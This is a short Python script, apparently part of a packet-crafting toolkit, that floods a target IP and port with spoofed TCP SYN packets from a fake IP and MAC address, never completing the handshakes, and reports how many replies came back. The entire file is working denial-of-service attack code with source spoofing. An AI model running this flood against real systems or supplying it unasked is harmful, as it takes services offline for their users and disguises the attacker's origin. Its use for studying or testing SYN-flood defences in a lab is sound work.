"""A SYN flood: COUNT SYNs from random ports of the fake address, none ever completed.

usage: syn_flood.py IFACE FAKE_IP FAKE_MAC TARGET_IP TARGET_MAC PORT COUNT
"""
import random
import sys

from scapy.all import IP, TCP, Ether

from tcpkit import kit_from_args, report

kit, (port, count) = kit_from_args(sys.argv)
port, count = int(port), int(count)
frames = [Ether(src=kit.fake_mac, dst=kit.target_mac) / IP(src=kit.fake_ip, dst=kit.target_ip)
          / TCP(sport=1024 + i % 64000, dport=port, flags="S", seq=random.randint(0, 2**32 - 1),
                options=[("MSS", 1460)])
          for i in range(count)]
for f in frames:
    kit.send_raw(f)
answers = kit.inbox.qsize()
report(sent=count, answers_seen=answers)
kit.close()
